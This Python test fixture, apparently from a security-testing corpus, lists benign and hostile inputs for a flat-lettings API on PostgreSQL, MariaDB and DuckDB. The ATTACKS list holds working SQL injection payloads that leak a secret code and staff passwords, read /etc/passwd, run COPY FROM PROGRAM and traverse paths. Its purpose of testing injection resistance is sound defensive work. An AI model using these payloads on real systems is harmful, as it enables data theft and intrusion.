"""Lettings on PostgreSQL, MariaDB and DuckDB."""

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.twelfth import (
    CODE,
    COMPLAINT,
    GUIDE,
    LONG,
    MARKUP,
    NAMES,
    STREETS,
    api,
    encoded,
    messages,
    rule,
    shard,
)

NEEDS = ("postgres", "mariadb")
SECRET = "lettings-code-9174"


def _get(**query: str) -> dict[str, object]:
    return api("GET", "/flats", query=query)


def _post(body: object) -> dict[str, object]:
    return api("POST", "/flats", body)


def _line(line: str, office: str = "main") -> dict[str, object]:
    return api("POST", "/log", {"line": line}, headers={"x-office": office})


def _text(text: str) -> dict[str, object]:
    return rule("Described", {"text": text})


def _keep(name: str, words: str) -> dict[str, object]:
    return _post({"name": name, "words": words})


def _night(only: str) -> dict[str, object]:
    return rule("Nightly", {"only": only})


def _login(login: str, password: str) -> dict[str, object]:
    return _post({"login": login, "pass": password})


def _set(number: str, field: str, value: object) -> dict[str, object]:
    return api("PATCH", "/flats/{id}", {"field": field, "value": value}, ids={"id": number})


def _delivered(*data: str) -> dict[str, object]:
    return {
        "invocationId": "i",
        "deliveryStreamArn": "arn:x",
        "records": [{"recordId": str(n), "data": encoded(d)} for n, d in enumerate(data)],
    }


REQUESTS = {
    "flats": [
        _get(),
        _get(town="Cork", max="1000.50"),
        _get(q="O'Connell"),
        _get(q=COMPLAINT, tag="' OR 1=1 --"),
        _get(max="12; drop"),
    ],
    "by_street": [
        _get(street="O'Connell"),
        _get(street="Straße 5"),
        _get(street="Rue (9) -- left; 5% [b]"),
        _get(street=NAMES[1]),
    ],
    "nearby": [_get(lat="51.9", lon="-8.5"), _get(lat="5.25e1", lon="13", n="1"), _get(lat="0", lon="+0.5")],
    "rents": [_get(to="1,200"), _get(**{"from": "1e3"}), _get(to="5 OR 1=1"), _get(**{"from": "0x10"})],
    "tagged": [
        _post({"tags": ["lift"]}),
        _post({"tags": ["quiet", 'the "best" (one)']}),
        _post({"tags": ["A&B; -- 5%", "ü"]}),
        _post({"tags": []}),
    ],
    "having": [
        _post({"pets": True}),
        _post({"floor": 5, "x": {"y; --": [None]}}),
        _post({"note": "it's"}),
        _post({"sql": 'select "a" from b'}),
    ],
    "having_path": [
        _post({"path": "$.floor ? (@ > $n)", "vars": {"n": 1}}),
        _post({"path": "$.pets ? (@ == true)"}),
        _post({"path": "it's; drop"}),
        _post({"path": "$.x", "vars": {"a'b": "--"}}),
    ],
    "columns": [
        _get(columns="id, street", sort="rent", dir="desc"),
        _get(columns="id,Größe (m²)"),
        _get(columns='a"; DROP TABLE flats; --'),
        _get(),
    ],
    "tenant_log": [
        _line(COMPLAINT),
        _line(CODE, "Cork (main) -- 2; 5%"),
        _line("it's'; DROP TABLE log; --", "Zürich & co"),
    ],
    "announce": [
        messages(COMPLAINT),
        messages({"flat": 1, "who": NAMES[0]}, "a'b; --"),
        messages("raw:viewing 5 at 10:00; be early -- ok"),
    ],
    "stored_search": [
        _get(town="cork"),
        _get(town="P%"),
        _get(town="Frankfurt (Oder); -- x"),
        _get(town="L'Aquila"),
    ],
    "describe": [_text(COMPLAINT), _text("costs $5 or $tx$; it's 'ok' -- $$"), _text(CODE), _text(MARKUP)],
    "note_escaped": [_text(COMPLAINT), _text('it\'s "5%"; -- /* x */'), _text(NAMES[0])],
    "keep_search": [
        _keep("mine", "cork berlin"),
        _keep("o'brien & co", "O.Connell [a-z]+ (view)"),
        _keep("x; drop", COMPLAINT),
        _keep("ü", ""),
    ],
    "digest": [_night("mine"), _night("o'brien & co"), _night("ü"), _night("none'")],
    "staff_login": [
        _login("zoe", "tea-time-5"),
        _login("zoe", "wrong"),
        _login("müller@example.net", "p&ss (w0rd); -- 5$"),
        _login("o'brien", "x"),
    ],
    "tenant_find": [
        _get(name="O'Brien"),
        _get(name="Minh -- Hang; #1"),
        _get(name='d\'Arcy & "co"'),
        _get(name="%"),
    ],
    "tenant_find_bound": [_get(name="O'Brien"), _get(name="\\' OR 1=1 -- "), _get(name=GUIDE[:400])],
    "tenant_find_escaped": [
        _get(name="Aoife O'Brien"),
        _get(name="\\"),
        _get(name="' UNION SELECT 1, 2 -- "),
        _get(name="Zoe\x00\n"),
    ],
    "tenants_of": [
        _post({"flats": ["A1", "B2"]}),
        _post({"flats": ["O'Dea 5"]}),
        _post({"flats": ["(left) -- 2; x", "C3"]}),
        _post({"flats": []}),
    ],
    "tenant_put": [
        messages({"id": 101, "name": NAMES[0], "note": COMPLAINT}),
        messages(
            {"id": 102, "name": "x'); DROP TABLE tenants; --", "flat": "Z'9"},
            {"id": 103, "name": NAMES[5], "note": LONG[:2000]},
        ),
        messages({"id": 104, "name": "50%s %(id)s", "mail": "a'b@example.net"}),
    ],
    "orm_flats": [
        _get(),
        _get(sort="street"),
        _get(sort="town asc, rent desc", towns="Cork,L'Aquila"),
        _get(sort="length(street)"),
    ],
    "orm_filter": [
        _get(town="cork"),
        _get(street="O'Connell", rent="9"),
        _get(street="' OR 1=1 --", __class__="x"),
        _get(town="%_\\"),
    ],
    "core_set": [
        _set("1", "town", "N'Djamena; -- x"),
        _set("2", "street", STREETS[0]),
        _set("3", "rent", 2000.5),
        _set("99", "town", "x"),
    ],
    "meters": [
        {"file": "2026-05.csv"},
        {"file": "April (late).csv"},
        {"file": "*.csv"},
        {"file": "2026-05.csv", "rows": True},
    ],
    "meters_bound": [
        {"file": "2026-05.csv", "but": "O'Dea"},
        {"file": "../codes.csv"},
        {"file": "x') UNION SELECT 1 --"},
    ],
    "frame_where": [
        shard({"flat": "A1", "value": 5}, {"flat": "A1", "value": 7.5}),
        shard({"flat": "B 2/left; (new) -- x", "value": 1}),
        shard({"flat": "Größe 5%", "value": 0, "note": COMPLAINT}),
    ],
    "frame_parquet": [
        {"csv": 'flat,note\nA1,"it\'s; ""x"" -- 5%"\n'},
        {"csv": "a\tb;c\nselect 1;\n"},
        {"csv": f"n\n{NAMES[1]}\n=1+1\n"},
    ],
    "firehose": [
        _delivered('{"device": "it\'s-1", "text": "x; --"}', "no json"),
        _delivered('{"device": 5, "text": "' + "a'b " * 50 + '"}'),
        _delivered(),
    ],
    "viewing": [
        _post({"flat": 1, "at": "2026-05-02T10:00:00+00:00", "who": NAMES[0]}),
        _post({"flat": "2", "at": "2026-05-03T11:30:00+02:00", "who": "x'); DROP TABLE viewings; --"}),
        _post({"flat": 1, "at": "2026-05-02T10:00:00+00:00", "who": COMPLAINT}),
    ],
    "copy_rows": [{"text": CODE}, {"text": "it's\t\\N \\. --\n'; x"}, {"text": GUIDE}],
    "words_of": [
        _get(q="o'connell -paris"),
        _get(q='"rue 9" or (lift) & !x; --'),
        _get(q="' OR 1=1 --"),
        _get(),
    ],
    "ids_of": [_get(ids="3,1"), _get(ids="2) OR 1=1 --,1"), _get(ids="")],
    "tenant_page": [
        _get(sort="name", dir="desc"),
        _get(sort="pass` FROM staff --", n="1"),
        _get(**{"from": "1"}),
    ],
    "tenant_notes": [
        _post({"by": "O'Brien; --", "text": COMPLAINT}),
        _post({"$.x') --": 1}),
        _post({"by": "\\' OR 1=1 #", "list": [1, None]}),
    ],
    "union_report": [
        rule("Report", {"towns": ["Paris", "Berlin"]}),
        rule("Report", {"towns": ["x' UNION SELECT code, 1 FROM doors --", "L'Aquila"]}),
        rule("Report", {"towns": []}),
    ],
    "pivot_meters": [
        {"readings": [["A'1; --", "water", 5], ["A'1; --", "heat", 1.5]], "kinds": ["water", "heat"]},
        {"readings": [["x", "') OR 1=1 --", 1]], "kinds": ["') OR 1=1 --"]},
        {"readings": [], "kinds": []},
    ],
}

ATTACKS = [
    Attack("SQL, text", "by_street", _get(street="x' UNION SELECT flat, code, '' FROM doors --"), SECRET),
    Attack(
        "SQL, text",
        "by_street",
        _get(
            street="' AND false UNION ALL SELECT 1, string_agg(code, ','), current_user FROM lettings.doors WHERE '' <> 'x"
        ),
        SECRET,
    ),
    Attack(
        "SQL, function",
        "by_street",
        _get(
            street="zz' OR query_to_xml('select code from lettings.doors', true, true, '')::text LIKE '%code-91%' AND street LIKE 'Rue"
        ),
        "Rue 9",
    ),
    Attack(
        "SQL, number",
        "nearby",
        _get(
            lat="(SELECT CASE WHEN code LIKE 'lettings-code-9%' THEN 48.9 ELSE 52 END FROM doors)",
            lon="2.3",
            n="1",
        ),
        "Paris",
    ),
    Attack(
        "SQL, number",
        "nearby",
        _get(lat="(SELECT ascii(substr(code, 1, 1)) - 108 + 52.5 FROM doors)", lon="13.4", n="1"),
        "Berlin",
    ),
    Attack(
        "SQL, array",
        "tagged",
        _post({"tags": ["x\\\"}' OR id = (SELECT flat FROM doors WHERE code ~ '^lettings-code-917') --"]}),
        "balcony",
    ),
    Attack(
        "SQL, array",
        "tagged",
        _post({"tags": ["\\\"}' UNION SELECT flat, ARRAY[code] FROM doors --"]}),
        SECRET,
    ),
    Attack("SQL, JSON", "having", _post({"x' UNION SELECT flat, to_jsonb(code) FROM doors --": 1}), SECRET),
    Attack(
        "SQL, session",
        "tenant_log",
        _line(
            "x",
            "a'; INSERT INTO log (line) SELECT code FROM doors; SELECT set_config('application_name', (SELECT code FROM doors), false); --",
        ),
        SECRET,
    ),
    Attack(
        "SQL, session",
        "tenant_log",
        _line(
            "x",
            "a'; DO $$ BEGIN PERFORM set_config('application_name', (SELECT 'got-' || code FROM lettings.doors), false); END $$; --",
        ),
        "got-" + SECRET,
    ),
    Attack(
        "SQL, several statements",
        "announce",
        messages("raw:x'; SELECT pg_notify('viewings', (SELECT code FROM doors)); --", "second"),
        SECRET,
    ),
    Attack(
        "SQL, program",
        "announce",
        messages(
            "raw:x'; CREATE TEMP TABLE o (l text); COPY o FROM PROGRAM 'printf %s%s pwn -1'; SELECT pg_notify('viewings', l) FROM o; --",
            "second",
        ),
        "pwn-1",
    ),
    Attack(
        "SQL, stored function",
        "stored_search",
        _get(town="x' UNION SELECT code FROM lettings.doors --"),
        SECRET,
    ),
    Attack(
        "SQL, stored function",
        "stored_search",
        _get(town="' OR town = (SELECT 'Paris' FROM lettings.doors WHERE code LIKE 'let%') OR '' = 'x"),
        "Rue 9",
    ),
    Attack("SQL, dollar quotes", "describe", _text("x$t$ || (SELECT code FROM doors) || $t$"), SECRET),
    Attack(
        "SQL, dollar quotes",
        "describe",
        _text(
            "a$t$), ((SELECT code FROM doors ORDER BY 1 LIMIT 1)) RETURNING (SELECT 'is ' || code FROM doors) AS line --"
        ),
        "is " + SECRET,
    ),
    Attack(
        "SQL, escape", "note_escaped", _text("x\\' || (SELECT code FROM doors)) RETURNING line --"), SECRET
    ),
    Attack(
        "SQL, escape",
        "note_escaped",
        _text("\\'||(select concat(5, code) from doors)) returning line --"),
        "5" + SECRET,
    ),
    Attack(
        "SQL, second order",
        "digest",
        _night("evil"),
        SECRET,
        before=[("keep_search", _keep("evil", "x)'UNION/**/SELECT/**/code/**/FROM/**/doors--"))],
    ),
    Attack(
        "SQL, second order",
        "digest",
        _night("evil2"),
        "Paris",
        before=[
            (
                "keep_search",
                _keep(
                    "evil2",
                    "zz)'OR(id=3)AND(SELECT/**/code/**/FROM/**/doors)LIKE'lettings-code-91%'AND'(x)'<>'",
                ),
            )
        ],
    ),
    Attack("SQL, text", "staff_login", _login("root' -- ", "x"), '\\"hello\\": \\"root'),
    Attack(
        "SQL, text", "staff_login", _login("x' UNION SELECT pass FROM staff WHERE login='root'#", ""), SECRET
    ),
    Attack(
        "SQL, two fields", "staff_login", _login("\\", " UNION SELECT pass FROM staff LIMIT 1 -- "), SECRET
    ),
    Attack(
        "SQL, version comment",
        "staff_login",
        _login("x'/*!50000UNION*//*!50000SELECT*/concat(0x3a,pass)from staff where login='root'-- -", ""),
        ":" + SECRET,
    ),
    Attack("SQL, types", "staff_login", _login("'=0 AND login = 'root' -- ", "y"), '\\"hello\\": \\"root'),
    Attack("SQL, escape", "tenant_find", _get(name="zz\\' UNION SELECT pass, login FROM staff -- "), SECRET),
    Attack(
        "SQL, escape",
        "tenant_find",
        _get(name="\\' AND 0 UNION SELECT LOAD_FILE(0x2f6574632f706173737764), 1#"),
        "root:x:0:0",
    ),
    Attack("SQL, number", "tenants_of", _post({"flats": [0]}), "Minh Hang"),
    Attack(
        "SQL, ORM order",
        "orm_flats",
        _get(
            sort="(SELECT CASE WHEN code LIKE 'lettings-code-9%' THEN id ELSE -id END FROM lettings.doors) DESC LIMIT 1",
            towns="Paris",
        ),
        '\\"id\\": 3',
    ),
    Attack(
        "SQL, ORM order",
        "orm_flats",
        _get(
            sort="CASE WHEN EXISTS (SELECT 1 FROM lettings.doors WHERE code ~ '^lettings-code-91') THEN town ELSE street END LIMIT 1",
            towns="Paris,Berlin",
        ),
        '\\"id\\": 2',
    ),
    Attack(
        "SQL, having",
        "having",
        _post(
            {"floor": "%' AND false OR tags @> (SELECT ARRAY['view'] FROM doors WHERE code LIKE 'let%') --"}
        ),
        '\\"id\\": 3',
    ),
    Attack(
        "SQL, column", "core_set", _set("1", "street = (SELECT code FROM lettings.doors), town", "x"), SECRET
    ),
    Attack(
        "SQL, column",
        "core_set",
        _set(
            "2",
            "town = :value, street = (SELECT string_agg(code, ';') || '!' FROM lettings.doors) WHERE id = :id OR id = 2 RETURNING street, town --",
            "y",
        ),
        SECRET + "!",
    ),
    Attack("path", "meters", {"file": "../codes.csv", "rows": True}, SECRET),
    Attack(
        "SQL, DuckDB",
        "meters",
        {
            "file": "2026-05.csv' UNION ALL SELECT content, '', 0 FROM read_text('/etc/passwd') --",
            "rows": True,
        },
        "root:x:0:0",
    ),
    Attack(
        "SQL, DuckDB",
        "meters",
        {
            "file": "2026-05.csv' WHERE false UNION SELECT code, flat, 0 FROM '/tmp/lettings/codes.csv",
            "rows": True,
        },
        SECRET,
    ),
    Attack(
        "SQL, DuckDB",
        "frame_where",
        shard(
            {
                "flat": "x' GROUP BY 1 UNION SELECT code, 0 FROM read_csv('/tmp/lettings/codes.csv') --",
                "value": 1,
            }
        ),
        SECRET,
    ),
    Attack(
        "SQL, DuckDB",
        "frame_where",
        shard(
            {
                "flat": "' OR 1=1 GROUP BY 1 UNION SELECT content, 1 FROM read_text('/etc/host.conf') --",
                "value": 1,
            }
        ),
        "multi on",
    ),
]
